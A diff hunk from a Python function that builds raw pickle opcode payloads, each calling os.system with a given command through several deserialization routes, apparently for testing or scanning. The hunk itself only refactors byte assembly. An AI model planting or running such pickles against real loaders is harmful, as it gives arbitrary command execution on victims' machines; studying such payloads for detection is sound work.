@@ -168,17 +168,8 @@ def _steps(command: bytes, python: bytes) -> dict[str, bytes]:
     system = call("os.system", command)
     namespace = name("argparse.Namespace") + b")\x81"
     method = b"}" + text("__setstate__") + name("os.system") + b"s"
-    meta = (
-        b"}"
-        + text("type")
-        + text("class")
-        + b"s"
-        + text("class_name")
-        + text("G")
-        + b"s"
-        + text("state")
-        + b"}s"
-    )
+    entries = (text("type"), text("class"), b"s", text("class_name"), text("G"), b"s", text("state"), b"}s")
+    meta = b"}" + b"".join(entries)
     return {
         "instance": program(b"(" + command + b"ios\nsystem\n"),
         "object": program(b"(" + name("os.system") + command + b"o"),
